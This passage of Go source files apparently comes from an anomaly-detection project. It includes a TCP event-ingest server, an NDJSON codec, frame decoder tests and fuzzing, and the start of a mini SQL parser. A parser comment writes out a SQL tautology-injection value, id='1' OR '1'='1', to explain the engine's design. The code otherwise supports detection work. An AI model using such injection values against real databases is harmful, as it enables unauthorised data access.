	Events uint64
	// Calls counts calls carried by observe events.
	Calls uint64
	// DecodeErrors counts connections dropped for malformed input.
	DecodeErrors uint64
	// SinkRejects counts events the sink refused (unknown tenant, quota,
	// risk-aware shedding); the connection keeps streaming.
	SinkRejects uint64
}

func (s ServerStats) String() string {
	return fmt.Sprintf("conns=%d active=%d events=%d calls=%d decode_errors=%d sink_rejects=%d",
		s.Conns, s.ActiveConns, s.Events, s.Calls, s.DecodeErrors, s.SinkRejects)
}

// Server accepts collector connections and streams their events into a
// Sink. Each connection is served by one goroutine whose read loop is the
// backpressure boundary: a full shard queue blocks it, which stops reads,
// which closes the remote's TCP send window.
type Server struct {
	cfg ServerConfig
	log *slog.Logger

	mu     sync.Mutex
	ln     net.Listener
	conns  map[net.Conn]struct{}
	closed bool
	wg     sync.WaitGroup

	conns_       atomic.Uint64
	active       atomic.Int64
	events       atomic.Uint64
	calls        atomic.Uint64
	decodeErrors atomic.Uint64
	sinkRejects  atomic.Uint64
}

// NewServer builds a server; it owns no listener until Serve or
// ListenAndServe.
func NewServer(cfg ServerConfig) (*Server, error) {
	if cfg.Sink == nil {
		return nil, errors.New("ingest: ServerConfig.Sink is required")
	}
	log := cfg.Logger
	if log == nil {
		// Drop records above the Enabled gate; Debug-level records on the
		// per-event path are filtered before formatting.
		log = slog.New(slog.NewTextHandler(io.Discard, &slog.HandlerOptions{Level: slog.LevelError + 4}))
	}
	return &Server{cfg: cfg, log: log, conns: make(map[net.Conn]struct{})}, nil
}

// ListenAndServe binds addr (e.g. "127.0.0.1:9090") and serves until Close.
func (s *Server) ListenAndServe(addr string) error {
	ln, err := net.Listen("tcp", addr)
	if err != nil {
		return fmt.Errorf("ingest: %w", err)
	}
	return s.Serve(ln)
}

// Serve accepts connections on ln until Close (which returns nil here) or a
// permanent accept failure.
func (s *Server) Serve(ln net.Listener) error {
	s.mu.Lock()
	if s.closed {
		s.mu.Unlock()
		ln.Close()
		return errors.New("ingest: server closed")
	}
	s.ln = ln
	s.mu.Unlock()
	s.log.Info("ingest listening", "addr", ln.Addr().String(), "codec", s.cfg.Codec.String())
	for {
		conn, err := ln.Accept()
		if err != nil {
			s.mu.Lock()
			closed := s.closed
			s.mu.Unlock()
			if closed {
				return nil
			}
			return fmt.Errorf("ingest: accept: %w", err)
		}
		s.mu.Lock()
		if s.closed {
			s.mu.Unlock()
			conn.Close()
			return nil
		}
		s.conns[conn] = struct{}{}
		s.wg.Add(1)
		s.mu.Unlock()
		s.conns_.Add(1)
		s.active.Add(1)
		go func() {
			defer s.wg.Done()
			defer s.active.Add(-1)
			s.serveConn(conn)
			s.mu.Lock()
			delete(s.conns, conn)
			s.mu.Unlock()
		}()
	}
}

// Addr returns the bound listen address ("" before Serve) — lets tests and
// cmd/adprom report the ephemeral port of ":0".
func (s *Server) Addr() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.ln == nil {
		return ""
	}
	return s.ln.Addr().String()
}

// Stats snapshots the server counters.
func (s *Server) Stats() ServerStats {
	return ServerStats{
		Conns:        s.conns_.Load(),
		ActiveConns:  s.active.Load(),
		Events:       s.events.Load(),
		Calls:        s.calls.Load(),
		DecodeErrors: s.decodeErrors.Load(),
		SinkRejects:  s.sinkRejects.Load(),
	}
}

// Close stops accepting, severs open connections and waits for their
// goroutines to exit. Idempotent.
func (s *Server) Close() error {
	s.mu.Lock()
	if s.closed {
		s.mu.Unlock()
		return nil
	}
	s.closed = true
	ln := s.ln
	for c := range s.conns {
		c.Close()
	}
	s.mu.Unlock()
	if ln != nil {
		ln.Close()
	}
	s.wg.Wait()
	return nil
}

// decoder is the common shape of both codec readers.
type decoder interface {
	Next() (Event, error)
}

// serveConn drains one connection through its codec until EOF, a decode
// failure, or Close.
func (s *Server) serveConn(conn net.Conn) {
	defer conn.Close()
	remote := conn.RemoteAddr().String()
	br := bufio.NewReader(conn)
	dec, codec, err := s.newDecoder(br)
	if err != nil {
		s.decodeErrors.Add(1)
		s.log.Warn("ingest connection rejected", "remote", remote, "err", err)
		return
	}
	s.log.Debug("ingest connection open", "remote", remote, "codec", codec.String())
	// The traced-observe seam is resolved once per connection, not per event.
	ts, _ := s.cfg.Sink.(TraceSink)
	for {
		e, err := dec.Next()
		if err != nil {
			if err == io.EOF {
				s.log.Debug("ingest connection closed", "remote", remote)
				return
			}
			s.decodeErrors.Add(1)
			s.log.Warn("ingest connection dropped", "remote", remote, "err", err)
			return
		}
		s.dispatch(e, remote, codec, ts)
	}
}

// newDecoder picks the codec for a connection, sniffing the first bytes
// under CodecAuto: a stream opening with the frame magic is binary,
// anything else NDJSON.
func (s *Server) newDecoder(br *bufio.Reader) (decoder, Codec, error) {
	codec := s.cfg.Codec
	if codec == CodecAuto {
		head, err := br.Peek(len(frameMagic))
		if err != nil {
			return nil, codec, fmt.Errorf("%w: sniffing codec: %v", ErrFrameCorrupt, err)
		}
		if [4]byte(head) == frameMagic {
			codec = CodecBinary
		} else {
			codec = CodecNDJSON
		}
	}
	switch codec {
	case CodecBinary:
		return NewFrameDecoder(br, s.cfg.MaxFrame), codec, nil
	default:
		return NewNDJSONDecoder(br, s.cfg.MaxFrame), CodecNDJSON, nil
	}
}

// dispatch hands one event to the sink, counting refusals without breaking
// the stream — risk-aware shedding and quota pushback degrade a
// connection's throughput, they do not sever it. Observe events go through
// the TraceSink seam when the sink offers one, carrying the wire trace
// context so the decision trace opens at decode time.
func (s *Server) dispatch(e Event, remote string, codec Codec, ts TraceSink) {
	s.events.Add(1)
	var err error
	switch e.Kind {
	case KindObserve:
		s.calls.Add(uint64(len(e.Calls)))
		if ts != nil {
			err = ts.ObserveTraced(trace.Context{
				ID:     e.Trace,
				Start:  time.Now(),
				Remote: remote,
				Codec:  codec.String(),
			}, e.Tenant, e.Session, e.Calls)
			break
		}
		err = s.cfg.Sink.Observe(e.Tenant, e.Session, e.Calls)
	case KindFlush:
		err = s.cfg.Sink.Flush(e.Tenant, e.Session)
	case KindClose:
		err = s.cfg.Sink.CloseSession(e.Tenant, e.Session)
	}
	if err != nil {
		s.sinkRejects.Add(1)
		s.log.Debug("ingest event rejected", "remote", remote,
			"tenant", e.Tenant, "session", e.Session, "kind", e.Kind.String(), "err", err)
	}
}

// WritePrometheus renders the server counters in the Prometheus text
// exposition format, for mounting alongside the fleet's metrics.
func (s *Server) WritePrometheus(w io.Writer) error {
	st := s.Stats()
	p := obsv.NewPromWriter(w)
	p.Counter("adprom_ingest_connections_total", "Collector connections accepted.", float64(st.Conns))
	p.Gauge("adprom_ingest_connections_active", "Collector connections currently served.", float64(st.ActiveConns))
	p.Counter("adprom_ingest_events_total", "Events decoded and dispatched to the tenant router.", float64(st.Events))
	p.Counter("adprom_ingest_calls_total", "Calls carried by observe events.", float64(st.Calls))
	p.Counter("adprom_ingest_decode_errors_total", "Connections dropped for malformed input.", float64(st.DecodeErrors))
	p.Counter("adprom_ingest_sink_rejects_total", "Events refused by the sink (unknown tenant, quota, shedding).", float64(st.SinkRejects))
	return p.Err()
}
