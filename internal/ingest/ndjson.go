package ingest

import (
	"bufio"
	"encoding/json"
	"fmt"
	"io"

	"adprom/internal/collector"
)

// wireCall is one call in an NDJSON event. The label is optional: when
// omitted it defaults to the call name, matching how collectors label
// non-query calls.
type wireCall struct {
	Label  string `json:"label,omitempty"`
	Name   string `json:"name"`
	Caller string `json:"caller,omitempty"`
	Block  int    `json:"block,omitempty"`
	// SQL and Rows feed the SQL-behaviour detection channel: the wire query
	// the call executed (after any client-side rewriting) and the result's
	// row count. Both are optional; senders without query capture simply
	// omit them and the stream degrades to call-sequence detection.
	SQL  string `json:"sql,omitempty"`
	Rows int    `json:"rows,omitempty"`
}

// wireEvent is the NDJSON line schema — the human-debuggable codec:
//
//	{"tenant":"apph","session":"s1","calls":[{"name":"curl_easy_perform","caller":"send_report"}]}
//	{"tenant":"apph","session":"s1","op":"flush"}
//	{"tenant":"apph","session":"s1","op":"close"}
//
// op defaults to "observe" when calls are present.
type wireEvent struct {
	Tenant  string     `json:"tenant"`
	Session string     `json:"session"`
	Op      string     `json:"op,omitempty"`
	// Trace is an optional client-supplied trace ID: the server opens the
	// event's decision trace under it, so a collector can correlate its own
	// telemetry with the server-side stage timeline. Omitted, the server
	// assigns one.
	Trace string     `json:"trace,omitempty"`
	Calls []wireCall `json:"calls,omitempty"`
}

// NDJSONDecoder reads newline-delimited JSON events from a stream. Like
// FrameDecoder it amortises the decoded Calls slice and interns the
// recurring string vocabulary across events. Not safe for concurrent use.
type NDJSONDecoder struct {
	sc     *bufio.Scanner
	calls  []collector.Call
	intern map[string]string
}

// DefaultMaxLine bounds one NDJSON line (same ceiling as a binary frame).
const DefaultMaxLine = DefaultMaxFrame

// NewNDJSONDecoder wraps r. maxLine bounds a single line's byte length
// (DefaultMaxLine when <= 0).
func NewNDJSONDecoder(r io.Reader, maxLine int) *NDJSONDecoder {
	if maxLine <= 0 {
		maxLine = DefaultMaxLine
	}
	sc := bufio.NewScanner(r)
	sc.Buffer(make([]byte, 0, 4096), maxLine)
	return &NDJSONDecoder{sc: sc, intern: make(map[string]string)}
}

// Next decodes the next non-blank line. End of stream returns io.EOF; a
// malformed line returns an error wrapping ErrFrameCorrupt. The returned
// Event's Calls slice is valid only until the following Next.
func (d *NDJSONDecoder) Next() (Event, error) {
	for {
		if !d.sc.Scan() {
			if err := d.sc.Err(); err != nil {
				return Event{}, fmt.Errorf("%w: reading line: %v", ErrFrameCorrupt, err)
			}
			return Event{}, io.EOF
		}
		line := d.sc.Bytes()
		if isBlank(line) {
			continue
		}
		var we wireEvent
		if err := json.Unmarshal(line, &we); err != nil {
			return Event{}, fmt.Errorf("%w: %v", ErrFrameCorrupt, err)
		}
		return d.toEvent(we)
	}
}

func isBlank(b []byte) bool {
	for _, c := range b {
		if c != ' ' && c != '\t' && c != '\r' {
			return false
		}
	}
	return true
}

func (d *NDJSONDecoder) toEvent(we wireEvent) (Event, error) {
	// Trace IDs are unique per op, so interning would only grow the table.
	e := Event{Tenant: d.reuse(we.Tenant), Session: d.reuse(we.Session), Trace: we.Trace}
	switch we.Op {
	case "", "observe":
		e.Kind = KindObserve
	case "flush":
		e.Kind = KindFlush
		return e, nil
	case "close":
		e.Kind = KindClose
		return e, nil
	default:
		return Event{}, fmt.Errorf("%w: unknown op %q", ErrFrameCorrupt, we.Op)
	}
	if cap(d.calls) < len(we.Calls) {
		d.calls = make([]collector.Call, len(we.Calls))
	}
	calls := d.calls[:len(we.Calls)]
	for i, wc := range we.Calls {
		label := wc.Label
		if label == "" {
			label = wc.Name
		}
		calls[i] = collector.Call{
			Label:  d.reuse(label),
			Name:   d.reuse(wc.Name),
			Caller: d.reuse(wc.Caller),
			Block:  wc.Block,
			// SQL text is deliberately not interned: literals make most
			// queries distinct, so the intern table would only grow.
			SQL:  wc.SQL,
			Rows: wc.Rows,
		}
	}
	e.Calls = calls
	return e, nil
}

// reuse interns s: json.Unmarshal already allocated it, but returning the
// first-seen copy lets the per-connection vocabulary collapse to one string
// per distinct value, and downstream maps hash identical pointers faster.
func (d *NDJSONDecoder) reuse(s string) string {
	if s == "" {
		return ""
	}
	if got, ok := d.intern[s]; ok {
		return got
	}
	d.intern[s] = s
	return s
}

// EncodeNDJSON appends the NDJSON encoding of e (one line, newline
// terminated) to dst — the collector-side sender for the text codec.
func EncodeNDJSON(dst []byte, e Event) ([]byte, error) {
	we := wireEvent{Tenant: e.Tenant, Session: e.Session, Trace: e.Trace}
	switch e.Kind {
	case KindObserve:
		we.Calls = make([]wireCall, len(e.Calls))
		for i, c := range e.Calls {
			wc := wireCall{Name: c.Name, Caller: c.Caller, Block: c.Block, SQL: c.SQL, Rows: c.Rows}
			if c.Label != c.Name {
				wc.Label = c.Label
			}
			we.Calls[i] = wc
		}
	case KindFlush:
		we.Op = "flush"
	case KindClose:
		we.Op = "close"
	default:
		return dst, fmt.Errorf("ingest: encoding unknown kind %d", e.Kind)
	}
	b, err := json.Marshal(we)
	if err != nil {
		return dst, err
	}
	dst = append(dst, b...)
	return append(dst, '\n'), nil
}
