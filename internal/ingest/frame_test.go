package ingest

import (
	"bytes"
	"encoding/binary"
	"errors"
	"hash/crc32"
	"io"
	"reflect"
	"strings"
	"testing"
	"unsafe"

	"adprom/internal/collector"
)

// sampleEvents is a representative batch: an observe with labelled calls, a
// flush, a second tenant's traffic, and a close.
func sampleEvents() []Event {
	return []Event{
		{Kind: KindObserve, Tenant: "apph", Session: "s1", Trace: "c0ffee0123456789", Calls: []collector.Call{
			{Label: "mysql_query_Q3", Name: "mysql_query", Caller: "report", Block: 7},
			{Label: "printf", Name: "printf", Caller: "report", Block: 9},
		}},
		{Kind: KindFlush, Tenant: "apph", Session: "s1"},
		{Kind: KindObserve, Tenant: "appb", Session: "z9", Calls: []collector.Call{
			{Label: "curl_easy_perform", Name: "curl_easy_perform", Caller: "main", Block: 1},
		}},
		{Kind: KindClose, Tenant: "appb", Session: "z9"},
	}
}

// eventsEqual compares ignoring Calls slice identity/capacity.
func eventsEqual(got, want Event) bool {
	if got.Kind != want.Kind || got.Tenant != want.Tenant || got.Session != want.Session ||
		got.Trace != want.Trace {
		return false
	}
	if len(got.Calls) != len(want.Calls) {
		return false
	}
	for i := range got.Calls {
		if !reflect.DeepEqual(got.Calls[i], want.Calls[i]) {
			return false
		}
	}
	return true
}

func TestFrameRoundTrip(t *testing.T) {
	events := sampleEvents()
	var wire []byte
	for _, e := range events {
		var err error
		if wire, err = EncodeFrame(wire, e); err != nil {
			t.Fatal(err)
		}
	}
	dec := NewFrameDecoder(bytes.NewReader(wire), 0)
	for i, want := range events {
		got, err := dec.Next()
		if err != nil {
			t.Fatalf("event %d: %v", i, err)
		}
		if !eventsEqual(got, want) {
			t.Fatalf("event %d: got %+v, want %+v", i, got, want)
		}
	}
	if _, err := dec.Next(); err != io.EOF {
		t.Fatalf("after last frame: %v, want io.EOF", err)
	}
}

// encodeFrameV2 writes the version-2 wire layout (no trace ID) so the
// back-compat test does not depend on the current encoder.
func encodeFrameV2(t *testing.T, e Event) []byte {
	t.Helper()
	var payload []byte
	app := func(s string) {
		payload = binary.BigEndian.AppendUint16(payload, uint16(len(s)))
		payload = append(payload, s...)
	}
	app(e.Tenant)
	app(e.Session)
	if e.Kind == KindObserve {
		payload = binary.BigEndian.AppendUint16(payload, uint16(len(e.Calls)))
		for _, c := range e.Calls {
			app(c.Label)
			app(c.Name)
			app(c.Caller)
			payload = binary.BigEndian.AppendUint32(payload, uint32(c.Block))
			app(c.SQL)
			payload = binary.BigEndian.AppendUint32(payload, uint32(c.Rows))
		}
	}
	var b []byte
	b = append(b, frameMagic[:]...)
	b = binary.BigEndian.AppendUint16(b, 2)
	b = append(b, byte(e.Kind))
	b = binary.BigEndian.AppendUint32(b, uint32(len(payload)))
	b = binary.BigEndian.AppendUint32(b, crc32.ChecksumIEEE(payload))
	return append(b, payload...)
}

// TestFrameV2BackCompat holds the version promise: v2 streams from older
// collectors (no trace ID after the session) still decode, their events
// simply carrying no client trace.
func TestFrameV2BackCompat(t *testing.T) {
	var wire []byte
	for _, e := range sampleEvents() {
		wire = append(wire, encodeFrameV2(t, e)...)
	}
	dec := NewFrameDecoder(bytes.NewReader(wire), 0)
	for i, want := range sampleEvents() {
		want.Trace = "" // v2 cannot carry one
		got, err := dec.Next()
		if err != nil {
			t.Fatalf("v2 event %d: %v", i, err)
		}
		if !eventsEqual(got, want) {
			t.Fatalf("v2 event %d: got %+v, want %+v", i, got, want)
		}
	}
	if _, err := dec.Next(); err != io.EOF {
		t.Fatalf("after last v2 frame: %v, want io.EOF", err)
	}
}

// TestFrameDecoderInternsStrings holds the amortisation contract: the same
// tenant string on consecutive frames decodes to the same backing string.
func TestFrameDecoderInternsStrings(t *testing.T) {
	var wire []byte
	for i := 0; i < 2; i++ {
		var err error
		if wire, err = EncodeFrame(wire, Event{Kind: KindFlush, Tenant: "apph", Session: "s1"}); err != nil {
			t.Fatal(err)
		}
	}
	dec := NewFrameDecoder(bytes.NewReader(wire), 0)
	a, err := dec.Next()
	if err != nil {
		t.Fatal(err)
	}
	b, err := dec.Next()
	if err != nil {
		t.Fatal(err)
	}
	if unsafe.StringData(a.Tenant) != unsafe.StringData(b.Tenant) {
		t.Error("tenant string was reallocated instead of interned")
	}
}

func TestFrameDecodeErrors(t *testing.T) {
	valid, err := EncodeFrame(nil, sampleEvents()[0])
	if err != nil {
		t.Fatal(err)
	}
	corrupt := func(mut func(b []byte) []byte) []byte {
		b := append([]byte{}, valid...)
		return mut(b)
	}
	cases := []struct {
		name string
		in   []byte
		want error
	}{
		{"bad magic", corrupt(func(b []byte) []byte { b[0] = 'X'; return b }), ErrFrameCorrupt},
		{"truncated header", valid[:7], ErrFrameCorrupt},
		{"truncated payload", valid[:len(valid)-3], ErrFrameCorrupt},
		{"payload bit flip", corrupt(func(b []byte) []byte { b[len(b)-1] ^= 0x40; return b }), ErrFrameCorrupt},
		{"checksum flip", corrupt(func(b []byte) []byte { b[12] ^= 0x01; return b }), ErrFrameCorrupt},
		{"future version", corrupt(func(b []byte) []byte {
			binary.BigEndian.PutUint16(b[4:6], FrameVersion+1)
			return b
		}), ErrFrameIncompatible},
		{"version zero", corrupt(func(b []byte) []byte {
			binary.BigEndian.PutUint16(b[4:6], 0)
			return b
		}), ErrFrameIncompatible},
		{"oversize declared length", corrupt(func(b []byte) []byte {
			binary.BigEndian.PutUint32(b[7:11], uint32(DefaultMaxFrame+1))
			return b
		}), ErrFrameCorrupt},
		{"unknown kind", corrupt(func(b []byte) []byte { b[6] = 0x7F; return b }), ErrFrameCorrupt},
		{"empty stream mid-frame", valid[:1], ErrFrameCorrupt},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			dec := NewFrameDecoder(bytes.NewReader(tc.in), 0)
			_, err := dec.Next()
			if !errors.Is(err, tc.want) {
				t.Fatalf("got %v, want %v", err, tc.want)
			}
		})
	}

	// Structural underruns inside a checksum-valid payload: rebuild frames
	// whose payload truncates mid-structure with a correct CRC.
	t.Run("payload underrun with valid checksum", func(t *testing.T) {
		full, err := EncodeFrame(nil, sampleEvents()[0])
		if err != nil {
			t.Fatal(err)
		}
		payload := full[frameHeaderLen:]
		for cut := 0; cut < len(payload); cut++ {
			b := reframe(payload[:cut], KindObserve)
			dec := NewFrameDecoder(bytes.NewReader(b), 0)
			if _, err := dec.Next(); err == nil {
				// Some prefixes happen to parse as a shorter valid structure
				// only if every declared length fits; a clean parse of a
				// strict prefix means trailing-byte detection failed.
				t.Fatalf("cut=%d: truncated payload decoded cleanly", cut)
			} else if !errors.Is(err, ErrFrameCorrupt) {
				t.Fatalf("cut=%d: %v, want ErrFrameCorrupt", cut, err)
			}
		}
	})

	t.Run("flush frame with trailing bytes", func(t *testing.T) {
		fl, err := EncodeFrame(nil, Event{Kind: KindFlush, Tenant: "t", Session: "s"})
		if err != nil {
			t.Fatal(err)
		}
		b := reframe(append(fl[frameHeaderLen:], 0xAB), KindFlush)
		dec := NewFrameDecoder(bytes.NewReader(b), 0)
		if _, err := dec.Next(); !errors.Is(err, ErrFrameCorrupt) {
			t.Fatalf("got %v, want ErrFrameCorrupt", err)
		}
	})
}

// reframe wraps an arbitrary payload in a well-formed v1 header (correct
// magic, length, CRC) of the given kind — for testing payload-structure
// validation in isolation from header validation.
func reframe(payload []byte, kind Kind) []byte {
	b := append([]byte{}, frameMagic[:]...)
	b = binary.BigEndian.AppendUint16(b, FrameVersion)
	b = append(b, byte(kind))
	b = binary.BigEndian.AppendUint32(b, uint32(len(payload)))
	b = binary.BigEndian.AppendUint32(b, crc32.ChecksumIEEE(payload))
	return append(b, payload...)
}

func TestEncodeFrameLimits(t *testing.T) {
	long := strings.Repeat("x", 0x10000)
	if _, err := EncodeFrame(nil, Event{Kind: KindFlush, Tenant: long, Session: "s"}); err == nil {
		t.Error("64KiB+ tenant string encoded without error")
	}
	if _, err := EncodeFrame(nil, Event{Kind: 99, Tenant: "t", Session: "s"}); err == nil {
		t.Error("unknown kind encoded without error")
	}
}

func TestNDJSONRoundTrip(t *testing.T) {
	events := sampleEvents()
	var wire []byte
	for _, e := range events {
		var err error
		if wire, err = EncodeNDJSON(wire, e); err != nil {
			t.Fatal(err)
		}
	}
	dec := NewNDJSONDecoder(bytes.NewReader(wire), 0)
	for i, want := range events {
		got, err := dec.Next()
		if err != nil {
			t.Fatalf("event %d: %v", i, err)
		}
		if !eventsEqual(got, want) {
			t.Fatalf("event %d: got %+v, want %+v", i, got, want)
		}
	}
	if _, err := dec.Next(); err != io.EOF {
		t.Fatalf("after last line: %v, want io.EOF", err)
	}
}

func TestNDJSONDefaultsAndErrors(t *testing.T) {
	in := `{"tenant":"a","session":"s","calls":[{"name":"printf"}]}

{"tenant":"a","session":"s","op":"flush"}
`
	dec := NewNDJSONDecoder(strings.NewReader(in), 0)
	e, err := dec.Next()
	if err != nil {
		t.Fatal(err)
	}
	if e.Calls[0].Label != "printf" {
		t.Errorf("label not defaulted to name: %q", e.Calls[0].Label)
	}
	if e, err = dec.Next(); err != nil || e.Kind != KindFlush {
		t.Fatalf("blank line not skipped: %+v, %v", e, err)
	}

	for _, bad := range []string{
		`{"tenant":"a","session":"s","op":"explode"}`,
		`{not json}`,
	} {
		dec := NewNDJSONDecoder(strings.NewReader(bad+"\n"), 0)
		if _, err := dec.Next(); !errors.Is(err, ErrFrameCorrupt) {
			t.Errorf("%s: got %v, want ErrFrameCorrupt", bad, err)
		}
	}
}

// FuzzDecodeFrame holds the binary decoder to its contract on arbitrary
// bytes: it never panics, and every failure is a typed ErrFrameCorrupt /
// ErrFrameIncompatible (io.EOF only at a clean frame boundary).
func FuzzDecodeFrame(f *testing.F) {
	for _, e := range sampleEvents() {
		b, err := EncodeFrame(nil, e)
		if err != nil {
			f.Fatal(err)
		}
		f.Add(b)
	}
	two, _ := EncodeFrame(nil, sampleEvents()[0])
	two, _ = EncodeFrame(two, sampleEvents()[1])
	f.Add(two)
	f.Add([]byte{})
	f.Add([]byte("ADIN"))
	f.Add([]byte("{\"tenant\":\"a\"}\n"))
	f.Fuzz(func(t *testing.T, data []byte) {
		dec := NewFrameDecoder(bytes.NewReader(data), 1<<16)
		for i := 0; i < 1000; i++ {
			_, err := dec.Next()
			if err == nil {
				continue
			}
			if err == io.EOF || errors.Is(err, ErrFrameCorrupt) || errors.Is(err, ErrFrameIncompatible) {
				return
			}
			t.Fatalf("untyped decode error: %v", err)
		}
	})
}

// BenchmarkIngestDecode measures steady-state binary decode of a busy
// connection's traffic: after the first pass has populated the intern table
// and scratch buffers, decoding must not allocate per frame.
func BenchmarkIngestDecode(b *testing.B) {
	calls := make([]collector.Call, 64)
	for i := range calls {
		calls[i] = collector.Call{
			Label: "mysql_query_Q3", Name: "mysql_query", Caller: "report", Block: i % 8,
		}
	}
	var wire []byte
	var err error
	if wire, err = EncodeFrame(wire, Event{Kind: KindObserve, Tenant: "apph", Session: "s1", Calls: calls}); err != nil {
		b.Fatal(err)
	}
	if wire, err = EncodeFrame(wire, Event{Kind: KindFlush, Tenant: "apph", Session: "s1"}); err != nil {
		b.Fatal(err)
	}
	rd := bytes.NewReader(wire)
	dec := NewFrameDecoder(rd, 0)
	var events, decoded int
	b.ReportAllocs()
	b.SetBytes(int64(len(wire)))
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		rd.Reset(wire)
		for {
			e, err := dec.Next()
			if err == io.EOF {
				break
			}
			if err != nil {
				b.Fatal(err)
			}
			events++
			decoded += len(e.Calls)
		}
	}
	b.StopTimer()
	if events == 0 || decoded == 0 {
		b.Fatal("decoded nothing")
	}
}
