package minidb

import "fmt"

// Stmt is a parsed SQL statement.
type Stmt interface{ sqlStmt() }

// CreateStmt is CREATE TABLE name (col type, ...).
type CreateStmt struct {
	Table string
	Cols  []Column
}

// InsertStmt is INSERT INTO name VALUES (...), (...).
type InsertStmt struct {
	Table string
	Rows  [][]Value
}

// SelectStmt is SELECT ... FROM table [WHERE ...] [GROUP BY col]
// [ORDER BY col [DESC]] [LIMIT n] [UNION [ALL] SELECT ...]. The projection
// is either * (Star) or a list of columns/aggregates (Items).
type SelectStmt struct {
	Table     string
	Star      bool
	Items     []SelectItem
	Where     WhereExpr // nil when absent
	GroupBy   string    // "" when absent
	OrderBy   string    // "" when absent
	OrderDesc bool
	Limit     int // -1 when absent
	// Union chains a further SELECT whose rows are concatenated onto this
	// one's (deduplicated unless UnionAll). Each arm keeps its own ORDER
	// BY/LIMIT — the mini engine's simplification of standard binding.
	Union    *SelectStmt
	UnionAll bool
}

// HasAggregates reports whether any projection item aggregates.
func (s *SelectStmt) HasAggregates() bool {
	for _, it := range s.Items {
		if it.Agg != AggNone {
			return true
		}
	}
	return false
}

// SetClause is one column assignment of an UPDATE.
type SetClause struct {
	Column string
	Value  Value
}

// UpdateStmt is UPDATE table SET col = lit, ... [WHERE ...].
type UpdateStmt struct {
	Table string
	Sets  []SetClause
	Where WhereExpr
}

// DeleteStmt is DELETE FROM table [WHERE ...].
type DeleteStmt struct {
	Table string
	Where WhereExpr
}

func (*CreateStmt) sqlStmt() {}
func (*InsertStmt) sqlStmt() {}
func (*SelectStmt) sqlStmt() {}
func (*UpdateStmt) sqlStmt() {}
func (*DeleteStmt) sqlStmt() {}

// WhereExpr is a boolean predicate over a row.
type WhereExpr interface{ whereExpr() }

// AndExpr / OrExpr / NotExpr combine predicates.
type AndExpr struct{ L, R WhereExpr }
type OrExpr struct{ L, R WhereExpr }
type NotExpr struct{ X WhereExpr }

// CmpExpr compares two operands with Op in {=, !=, <>, <, <=, >, >=}.
type CmpExpr struct {
	Op   string
	L, R Operand
}

// LikeExpr is `operand LIKE 'pattern'` with % (any run) and _ (any char).
type LikeExpr struct {
	X       Operand
	Pattern string
}

// InExpr is `operand IN (lit, lit, ...)`.
type InExpr struct {
	X    Operand
	Vals []Value
}

// BetweenExpr is `operand BETWEEN lo AND hi` (inclusive).
type BetweenExpr struct {
	X      Operand
	Lo, Hi Value
}

func (*AndExpr) whereExpr()     {}
func (*OrExpr) whereExpr()      {}
func (*NotExpr) whereExpr()     {}
func (*CmpExpr) whereExpr()     {}
func (*LikeExpr) whereExpr()    {}
func (*InExpr) whereExpr()      {}
func (*BetweenExpr) whereExpr() {}

// Operand is either a column reference or a literal. The distinction is what
// makes tautology injection work: in "id='1' OR '1'='1'" the second
// comparison is literal-vs-literal and holds for every row.
type Operand struct {
	IsColumn bool
	Column   string
	Lit      Value
}

type parser struct {
	toks []token
	i    int
}

// Parse parses one SQL statement.
func Parse(query string) (Stmt, error) {
	toks, err := lex(query)
	if err != nil {
		return nil, err
	}
	p := &parser{toks: toks}
	stmt, err := p.statement()
	if err != nil {
		return nil, err
	}
	// Allow one trailing semicolon, then require EOF.
	if p.peek().kind == tokSymbol && p.peek().text == ";" {
		p.next()
	}
	if p.peek().kind != tokEOF {
		return nil, p.errorf("trailing input %q", p.peek().text)
	}
	return stmt, nil
}

func (p *parser) peek() token { return p.toks[p.i] }

func (p *parser) next() token {
	t := p.toks[p.i]
	if t.kind != tokEOF {
		p.i++
	}
	return t
}

func (p *parser) errorf(format string, args ...any) error {
	return fmt.Errorf("%w: %s (near offset %d)", ErrSyntax, fmt.Sprintf(format, args...), p.peek().pos)
}

func (p *parser) expectKeyword(kw string) error {
	t := p.next()
	if t.kind != tokIdent || t.text != kw {
		return fmt.Errorf("%w: expected %q, got %q (near offset %d)", ErrSyntax, kw, t.text, t.pos)
	}
	return nil
}

func (p *parser) expectSymbol(sym string) error {
	t := p.next()
	if t.kind != tokSymbol || t.text != sym {
		return fmt.Errorf("%w: expected %q, got %q (near offset %d)", ErrSyntax, sym, t.text, t.pos)
	}
	return nil
}

func (p *parser) ident() (string, error) {
	t := p.next()
	if t.kind != tokIdent {
		return "", fmt.Errorf("%w: expected identifier, got %q (near offset %d)", ErrSyntax, t.text, t.pos)
	}
	return t.text, nil
}

func (p *parser) statement() (Stmt, error) {
	t := p.peek()
	if t.kind != tokIdent {
		return nil, p.errorf("expected statement keyword")
	}
	switch t.text {
	case "begin", "commit", "rollback":
		p.next()
		// Optional noise words: BEGIN TRANSACTION / COMMIT WORK.
		if p.peekKeyword("transaction") || p.peekKeyword("work") {
			p.next()
		}
		return &txStmt{kind: t.text}, nil
	case "create":
		return p.createStmt()
	case "insert":
		return p.insertStmt()
	case "select":
		return p.selectStmt()
	case "update":
		return p.updateStmt()
	case "delete":
		return p.deleteStmt()
	default:
		return nil, p.errorf("unknown statement %q", t.text)
	}
}

func (p *parser) createStmt() (Stmt, error) {
	p.next() // create
	if err := p.expectKeyword("table"); err != nil {
		return nil, err
	}
	name, err := p.ident()
	if err != nil {
		return nil, err
	}
	if err := p.expectSymbol("("); err != nil {
		return nil, err
	}
	var cols []Column
	for {
		cname, err := p.ident()
		if err != nil {
			return nil, err
		}
		ctype, err := p.ident()
		if err != nil {
			return nil, err
		}
		var typ Type
		switch ctype {
		case "int", "integer", "bigint":
			typ = TInt
		case "text", "varchar", "char":
			typ = TText
		default:
			return nil, p.errorf("unknown column type %q", ctype)
		}
		cols = append(cols, Column{Name: cname, Type: typ})
		t := p.next()
		if t.kind == tokSymbol && t.text == "," {
			continue
		}
		if t.kind == tokSymbol && t.text == ")" {
			break
		}
		return nil, p.errorf("expected ',' or ')' in column list")
	}
	return &CreateStmt{Table: name, Cols: cols}, nil
}

func (p *parser) insertStmt() (Stmt, error) {
	p.next() // insert
	if err := p.expectKeyword("into"); err != nil {
		return nil, err
	}
	name, err := p.ident()
	if err != nil {
		return nil, err
	}
	if err := p.expectKeyword("values"); err != nil {
		return nil, err
	}
	var rows [][]Value
	for {
		if err := p.expectSymbol("("); err != nil {
			return nil, err
		}
